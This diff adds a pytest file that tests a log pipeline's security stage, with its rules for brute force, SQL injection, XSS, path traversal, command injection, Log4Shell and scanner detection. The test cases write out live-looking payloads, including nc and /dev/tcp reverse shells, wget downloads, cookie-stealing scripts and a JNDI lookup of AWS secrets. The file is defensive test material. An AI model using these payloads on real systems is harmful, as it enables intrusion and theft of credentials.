@@ -1,0 +1,435 @@
+"""The security stage: each built-in rule on real-looking input, look-alikes, brute force."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from logpipe.errors import ConfigError
+from logpipe.security_rules import builtin_rules
+from logpipe.stages.base import BuildContext
+from logpipe.stages.security import FailureWindow, SecurityConfig, SecurityStage, prepare
+
+ENGINES = ("hyperscan", "re2")
+_STAGES: dict[str, SecurityStage] = {}
+
+
+def stage(engine: str = "hyperscan", **options) -> SecurityStage:
+    if options:
+        return SecurityStage(SecurityConfig(engine=engine, **options), BuildContext())
+    if engine not in _STAGES:
+        _STAGES[engine] = SecurityStage(SecurityConfig(engine=engine), BuildContext())
+    return _STAGES[engine]
+
+
+def url(value: str) -> dict:
+    return {"url": {"original": value}}
+
+
+def ua(value: str) -> dict:
+    return {"user_agent": {"original": value}}
+
+
+def body(value: str) -> dict:
+    return {"http": {"request": {"body": {"content": value}}}}
+
+
+def msg(value: str) -> dict:
+    return {"message": value}
+
+
+CASES = [
+    (
+        "auth.ssh_failure",
+        msg("Failed password for invalid user admin from 203.0.113.9 port 53122 ssh2"),
+    ),
+    ("auth.ssh_failure", msg("Invalid user oracle from 198.51.100.7 port 40112")),
+    (
+        "auth.ssh_failure",
+        msg("error: maximum authentication attempts exceeded for root from 203.0.113.9 port 22"),
+    ),
+    (
+        "auth.ssh_failure",
+        msg("Connection closed by authenticating user root 203.0.113.9 port 41234 [preauth]"),
+    ),
+    (
+        "auth.sudo_failure",
+        msg("alice : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/alice ; USER=root ;"),
+    ),
+    ("auth.sudo_failure", msg("bob : user NOT in sudoers ; TTY=pts/1 ; PWD=/tmp ; USER=root")),
+    (
+        "auth.pam_failure",
+        msg(
+            "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
+            "rhost=203.0.113.9  user=root"
+        ),
+    ),
+    ("sqli.tautology", url("/login.php?user=admin%27%20OR%20%271%27=%271&pass=x")),
+    ("sqli.tautology", body('username=x") or ("a"="a&password=y')),
+    ("sqli.always_true", msg('GET /item.php?id=10+or+1=1-- HTTP/1.1" 200 512')),
+    (
+        "sqli.union_select",
+        url("/products.php?cat=1%20UNION%20ALL%20SELECT%20NULL,concat(user,0x3a,password)--"),
+    ),
+    ("sqli.union_select", url("/news?id=1/**/UnIoN/**/SeLeCt/**/1,2,3")),
+    ("sqli.union_select", {"request": "/index.php?id=-1+union+select+1,version()"}),
+    ("sqli.time_based", url("/search?q=1%27%20AND%20SLEEP(5)--%20-")),
+    ("sqli.time_based", body("id=1;WAITFOR DELAY '0:0:5'--")),
+    ("sqli.time_based", url("/item?id=1)%20or%20pg_sleep(10)--")),
+    ("sqli.schema_probe", url("/?id=1 and 1=(select count(*) from information_schema.tables)")),
+    ("sqli.dangerous_function", body("q='; EXEC master..xp_cmdshell 'whoami'--")),
+    ("sqli.dangerous_function", url("/?id=1 union all select load_file('/etc/hosts')")),
+    ("sqli.stacked_query", url("/users?id=5;%20DROP%20TABLE%20users--")),
+    ("sqli.comment", url("/login?user=admin%27--&pass=x")),
+    ("xss.script_tag", url("/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E")),
+    ("xss.script_tag", body("comment=&lt;script&gt;fetch('//x.example/'+document.cookie)")),
+    ("xss.script_tag", msg("Rejected comment: <script src=//evil.example/x.js></script>")),
+    ("xss.script_tag", url("/p?q=%253Cscript%253Ealert(1)%253C/script%253E")),
+    ("xss.event_handler", url("/profile?name=<img src=x onerror=alert(1)>")),
+    ("xss.event_handler", url('/search?q="%20onmouseover="alert(1)')),
+    ("xss.javascript_uri", url("/redirect?to=javascript:alert(document.domain)")),
+    ("xss.probe", url('/?q="-prompt(8)-"')),
+    ("xss.html_tag", url("/?q=%3Csvg%3E")),
+    ("path_traversal.dotdot", url("/download?file=../../config/app.yml")),
+    ("path_traversal.dotdot", {"path": "/static/../admin/secret.txt"}),
+    ("path_traversal.sensitive_file", msg("open failed: ../../../../etc/passwd: no such file")),
+    ("path_traversal.sensitive_file", url("/img?f=..\\..\\..\\windows\\win.ini")),
+    ("path_traversal.system_file", url("/cgi-bin/view?file=/etc/passwd")),
+    ("path_traversal.system_file", url("/read?path=C:\\Windows\\System32\\drivers\\etc\\hosts")),
+    ("path_traversal.encoded", url("/files/..%2f..%2f..%2fetc%2fshadow")),
+    ("path_traversal.encoded", url("/%2e%2e/%2e%2e/boot.ini")),
+    (
+        "path_traversal.encoded",
+        msg('GET /a/%252e%252e%252f%252e%252e%252fetc/passwd HTTP/1.1" 404'),
+    ),
+    ("cmdi.chained_command", url("/ping?host=127.0.0.1;cat%20/etc/passwd")),
+    ("cmdi.chained_command", body("host=8.8.8.8 && wget http://203.0.113.9/x.sh -O /tmp/x")),
+    ("cmdi.chained_command", url("/diag?ip=1.1.1.1|nc 203.0.113.9 4444 -e /bin/sh")),
+    ("cmdi.subshell", url("/lookup?domain=$(whoami).evil.example")),
+    ("cmdi.subshell", body("name=`id`")),
+    ("cmdi.shell_path", body("cmd=/bin/bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")),
+    ("cmdi.shell_path", url("/run?c=powershell.exe -enc SQBFAFgA")),
+    ("cmdi.shellshock", ua("() { :; }; /bin/bash -c 'cat /etc/passwd'")),
+    ("jndi.lookup", ua("${jndi:ldap://203.0.113.9:1389/Exploit}")),
+    ("jndi.lookup", msg("login failed for user ${jndi:dns://x.oast.example/a}")),
+    ("jndi.lookup", url("/?x=%24%7Bjndi%3Armi%3A%2F%2F203.0.113.9%2Fa%7D")),
+    ("jndi.obfuscated", ua("${${lower:j}ndi:${lower:l}dap://x.example/a}")),
+    ("jndi.obfuscated", ua("${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}")),
+    ("jndi.env_lookup", {"agent": '"${env:AWS_SECRET_ACCESS_KEY}"'}),
+    ("scanner.user_agent", ua("sqlmap/1.7.2#stable (https://sqlmap.org)")),
+    ("scanner.user_agent", ua("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)")),
+    ("scanner.user_agent", ua("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org)")),
+    ("scanner.user_agent", ua("masscan/1.3 (https://github.com/robertdavidgraham/masscan)")),
+    ("scanner.user_agent", ua("Mozilla/5.0 zgrab/0.x")),
+    ("scanner.user_agent", ua("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)")),
+    ("scanner.user_agent", ua("WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)")),
+    ("scanner.user_agent", ua("DirBuster-1.0-RC1 (http://www.owasp.org)")),
+    ("scanner.user_agent", ua("gobuster/3.6")),
+    ("scanner.user_agent", ua("Fuzz Faster U Fool v2.1.0-dev")),
+    ("scanner.user_agent", {"agent": '"Mozilla/4.0 (compatible; MSIE 8.0) Acunetix-WVS"'}),
+    ("recon.sensitive_file", url("/.env")),
+    ("recon.sensitive_file", url("/app/.git/config")),
+    ("recon.sensitive_file", url("/wp-config.php.bak")),
+    ("ssrf.cloud_metadata", url("/fetch?u=http://169.254.169.254/latest/meta-data/iam/")),
+]
+
+
+@pytest.mark.parametrize("engine", ENGINES)
+@pytest.mark.parametrize(
+    ("rule_id", "event"), CASES, ids=[f"{r}-{n}" for n, (r, _) in enumerate(CASES)]
+)
+def test_rule_fires(engine: str, rule_id: str, event: dict) -> None:
+    out = stage(engine)([_copy(event)])[0]
+    assert rule_id in out["rule"]["id"], out.get("rule")
+    assert "security_alert" in out["tags"]
+    assert rule_id in out["tags"]
+    assert "_security_failure" not in out["tags"]
+    rule = next(r for r in builtin_rules() if r.id == rule_id)
+    assert rule.name in out["rule"]["name"]
+    assert set(rule.event_category) <= set(out["event"]["category"])
+
+
+def test_every_builtin_rule_has_a_case() -> None:
+    covered = {rule_id for rule_id, _ in CASES} | {
+        "auth.http_unauthorized",
+        "auth.http_forbidden",
+        "auth.brute_force",
+    }
+    assert covered == {rule.id for rule in builtin_rules()}
+
+
+@pytest.mark.parametrize("engine", ENGINES)
+def test_http_status_failures(engine: str) -> None:
+    events = [
+        {"http": {"response": {"status_code": 401}}, "url": {"original": "/api/me"}},
+        {"status": "403", "request": "/admin"},
+        {"http": {"response": {"status_code": 200}}},
+        {"status": 404},
+    ]
+    out = stage(engine)(events)
+    assert out[0]["rule"]["id"] == ["auth.http_unauthorized"]
+    assert out[0]["event"] == {
+        "category": ["authentication"],
+        "type": ["start"],
+        "outcome": "failure",
+    }
+    assert out[1]["rule"]["id"] == ["auth.http_forbidden"]
+    assert "rule" not in out[2] and "tags" not in out[2]
+    assert "rule" not in out[3]
+
+
+def test_several_rules_keep_lists_and_merge_existing_fields() -> None:
+    event = {
+        "url": {"original": "/?q=%3Cscript%3E&f=../../etc/passwd"},
+        "user_agent": {"original": "sqlmap/1.7"},
+        "event": {"category": "web", "type": ["access"], "outcome": "success"},
+        "rule": {"id": "ids-1001"},
+        "tags": ["nginx"],
+    }
+    out = stage()([event])[0]
+    assert out["rule"]["id"][0] == "ids-1001"
+    assert {"xss.script_tag", "path_traversal.dotdot", "scanner.user_agent"} <= set(
+        out["rule"]["id"]
+    )
+    assert len(out["rule"]["name"]) == len(out["rule"]["id"]) - 1
+    assert out["event"]["category"] == ["web", "intrusion_detection"]
+    assert out["event"]["type"] == ["access", "info"]
+    assert out["event"]["outcome"] == "success"
+    assert out["tags"][:2] == ["nginx", "security_alert"]
+
+
+BENIGN = [
+    msg("Customer selection saved for order 4532015112830366"),
+    msg("request 3fa85f64-5717-4562-b3f6-2c963f66afa6 done at 2024-05-02T10:15:02+00:00"),
+    url("/stations/union-station/departures?select=all"),
+    url("/static/js/script.js?v=3"),
+    url("/assets/javascript/app.js"),
+    url("/login?next=../account"),
+    url("/api/v1/orders?sort=created_at&order=desc&page=2&id=4532015112830366"),
+    url("/search?q=rock+%26+roll&lang=en"),
+    url("/search?q=union+square+hotels"),
+    url("/blog/2024/05/how-to-select-a-union-rep"),
+    url("/products?color=%23fff&size=L"),
+    url("/api/alerts?confirm=true"),
+    msg('<a href="../guide/intro.html">back</a>'),
+    msg("Invalid user input: field 'email' is required"),
+    msg("Retrying in 5s (sleep(5) avoided)"),
+    msg("SELECT id FROM orders WHERE status = 'open' UNION SELECT id FROM archive"),
+    msg("Executing /bin/sh -c 'backup.sh'"),
+    msg("loaded ${HOME}/config with ${PATH:-/usr/bin} and ${VAR:-${DEFAULT}}"),
+    msg("User bob authenticated successfully from 203.0.113.9"),
+    msg("Build: cd ../../node_modules && npm install"),
+    msg("installed packages: nmap, curl, jq"),
+    msg("order 1042: 'express' or 'standard' shipping = 2 options"),
+    body('{"color":"#fff","op":"and","onload":true,"sort": "name", "order": "asc"}'),
+    body("I prefer the selection at Union Square; drop by tomorrow at 10:00"),
+    body("name=Tom+%26+Jerry&comment=nice+place%21"),
+    ua(
+        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 "
+        "(KHTML, like Gecko) Version/17.4 Safari/605.1.15"
+    ),
+    ua("Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"),
+    ua("Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 Chrome/124.0 Mobile Safari"),
+    ua("curl/8.5.0"),
+    ua("python-requests/2.31.0"),
+    {"agent": '"Go-http-client/1.1"'},
+    {"http": {"response": {"status_code": 200}}, "url": {"original": "/healthz"}},
+]
+
+
+@pytest.mark.parametrize("engine", ENGINES)
+@pytest.mark.parametrize("event", BENIGN, ids=[str(n) for n in range(len(BENIGN))])
+def test_benign_look_alikes_left_alone(engine: str, event: dict) -> None:
+    out = stage(engine)([_copy(event)])[0]
+    assert out == event
+
+
+def test_prepare_decodes_only_when_needed() -> None:
+    plain = "/api/orders?page=2"
+    assert prepare(plain) is plain
+    assert prepare("/a%252e%252e/").endswith("\n/a../")
+    assert prepare("&lt;b&gt;").endswith("\n<b>")
+    assert prepare("a%zz") == "a%zz"
+
+
+def _failure(ip: str, second: int) -> dict:
+    return {
+        "@timestamp": f"2024-05-02T10:{second // 60:02d}:{second % 60:02d}.000Z",
+        "source": {"ip": ip},
+        "http": {"response": {"status_code": 401}},
+    }
+
+
+def _brute(events: list[dict]) -> list[bool]:
+    return ["auth.brute_force" in e["rule"]["id"] for e in events]
+
+
+def test_brute_force_fires_at_threshold_within_window() -> None:
+    s = stage(brute_force={"threshold": 5, "window_seconds": 60})
+    out = s([_failure("203.0.113.9", n * 10) for n in range(7)])
+    assert _brute(out) == [False] * 4 + [True] * 3
+    brute = out[4]
+    assert "authentication" in brute["event"]["category"]
+    assert "intrusion_detection" in brute["event"]["category"]
+
+
+def test_brute_force_needs_failures_inside_the_window() -> None:
+    s = stage(brute_force={"threshold": 5, "window_seconds": 60})
+    assert not any(_brute(s([_failure("203.0.113.9", n * 30) for n in range(8)])))
+
+
+def test_brute_force_counts_per_source() -> None:
+    s = stage()
+    events = [_failure(f"203.0.113.{n % 3}", n) for n in range(12)]
+    assert not any(_brute(s(events)))
+
+
+def test_brute_force_from_sshd_lines_without_source_field() -> None:
+    s = stage(brute_force={"threshold": 3, "window_seconds": 60})
+    lines = [
+        "Failed password for root from 198.51.100.23 port 40001 ssh2",
+        "Invalid user admin from 198.51.100.23 port 40002",
+        "pam_unix(sshd:auth): authentication failure; rhost=198.51.100.23 user=root",
+    ]
+    events = [{"@timestamp": f"2024-05-02T10:00:0{n}Z", "message": m} for n, m in enumerate(lines)]
+    assert _brute(s(events)) == [False, False, True]
+
+
+def test_brute_force_time_from_kafka_when_no_timestamp() -> None:
+    s = stage(brute_force={"threshold": 2, "window_seconds": 5})
+    events = [
+        {"status": 401, "clientip": "192.0.2.1", "@metadata": {"kafka": {"timestamp": t}}}
+        for t in (1_700_000_000_000, 1_700_000_010_000, 1_700_000_012_000)
+    ]
+    assert _brute(s(events)) == [False, False, True]
+
+
+def test_brute_force_can_be_disabled() -> None:
+    s = stage(disable=("auth.brute_force",), brute_force={"threshold": 2})
+    assert not any(_brute(s([_failure("192.0.2.7", n) for n in range(5)])))
+
+
+def test_failure_window_memory_is_bounded() -> None:
+    window = FailureWindow(threshold=3, window=60, max_sources=100)
+    for n in range(10_000):
+        window.hit(f"10.0.{n // 256}.{n % 256}", float(n))
+    assert len(window) == 100
+    assert window.hit("10.0.0.1", 1.0) is False  # evicted long ago: starts afresh
+
+
+def test_fields_are_configurable() -> None:
+    s = stage(fields=("url.original",))
+    out = s([{"message": "<script>x</script>", "url": {"original": "/ok"}}])[0]
+    assert "rule" not in out
+
+
+def test_user_rules_add_override_and_unless(tmp_path: Path) -> None:
+    rules = tmp_path / "rules.yaml"
+    rules.write_text(
+        """
+rules:
+  - id: custom.wp_login
+    name: WordPress login probe
+    category: reconnaissance
+    patterns: ['/wp-login\\.php']
+    fields: [url.original]
+    unless: '[?&]internal=1'
+  - id: scanner.user_agent
+    name: Scanner (our list)
+    category: scanner
+    patterns: ['\\bBadBot\\b']
+    fields: [user_agent.original]
+""",
+        encoding="utf-8",
+    )
+    s = SecurityStage(
+        SecurityConfig(rules_file="rules.yaml", disable=("xss.script_tag",)),
+        BuildContext(base_dir=tmp_path),
+    )
+    out = s(
+        [
+            url("/wp-login.php"),
+            url("/wp-login.php?internal=1"),
+            ua("BadBot/2.0"),
+            ua("sqlmap/1.7"),
+            url("/?q=<script>"),
+        ]
+    )
+    assert out[0]["rule"]["id"] == ["custom.wp_login"]
+    assert "rule" not in out[1]
+    assert out[2]["rule"]["name"] == ["Scanner (our list)"]
+    assert "rule" not in out[3]
+    assert "rule" not in out[4]
+
+
+@pytest.mark.parametrize(
+    ("content", "message"),
+    [
+        ("rules: [{id: x, name: y, category: z, patterns: ['(unclosed']}]", "security pattern"),
+        ("rules: [{id: x, name: y, category: z, patterns: ['a*']}]", "empty"),
+        ("rules: [{id: x, name: y, category: z}]", "rule x"),
+        ("rules: [{id: Bad Id, name: y, category: z, patterns: [a]}]", "id"),
+        ("rules: [{id: x, name: y, category: z, patterns: [a], unless: '(' }]", "unless"),
+        ("rules: [{id: x, name: y, category: z, patterns: [a], colour: red}]", "colour"),
+        ("rules: {id: x}", "expected a list"),
+        ("[{id: x, name: y, category: z, patterns: [a], fields: [referrer]}]", "is scanned"),
+        ("rules: [", "not valid YAML"),
+    ],
+)
+def test_bad_user_rules_are_config_errors(tmp_path: Path, content: str, message: str) -> None:
+    (tmp_path / "r.yaml").write_text(content, encoding="utf-8")
+    with pytest.raises(ConfigError, match=message):
+        SecurityStage(SecurityConfig(rules_file="r.yaml"), BuildContext(base_dir=tmp_path))
+
+
+def test_missing_rules_file_and_unknown_disable_are_config_errors(tmp_path: Path) -> None:
+    with pytest.raises(ConfigError, match=r"nope\.yaml"):
+        SecurityStage(SecurityConfig(rules_file="nope.yaml"), BuildContext(base_dir=tmp_path))
+    with pytest.raises(ConfigError, match=r"sqli\.typo"):
+        stage(disable=("sqli.typo",))
+
+
+def test_everything_disabled_still_runs() -> None:
+    every = tuple(rule.id for rule in builtin_rules())
+    s = stage(disable=every)
+    assert s([url("/?q=<script>"), {"status": 401}]) == [url("/?q=<script>"), {"status": 401}]
+
+
+_TEXT = st.text(
+    alphabet=st.sampled_from(list("%'\"<>;|&$`{}()/\\.:=+-#*01 aoruniselctjdp\n\x00é")),
+    max_size=80,
+)
+_VALUE = st.one_of(_TEXT, st.none(), st.integers(), st.lists(_TEXT, max_size=3), st.booleans())
+
+
+@settings(max_examples=300, deadline=None)
+@given(
+    message=_VALUE,
+    original=_VALUE,
+    agent=_VALUE,
+    status=_VALUE,
+    ip=_VALUE,
+    stamp=_VALUE,
+    engine=st.sampled_from(ENGINES),
+)
+def test_never_raises(message, original, agent, status, ip, stamp, engine) -> None:
+    event = {
+        "message": message,
+        "url": {"original": original},
+        "user_agent": original if isinstance(agent, bool) else {"original": agent},
+        "http": {"response": {"status_code": status}},
+        "source": {"ip": ip},
+        "@timestamp": stamp,
+        "status": 401,
+        "rule": message,
+        "event": agent,
+    }
+    out = stage(engine)([event])[0]
+    assert "_security_failure" not in out.get("tags", [])
+
+
+def _copy(event: dict) -> dict:
+    return {k: _copy(v) if isinstance(v, dict) else v for k, v in event.items()}
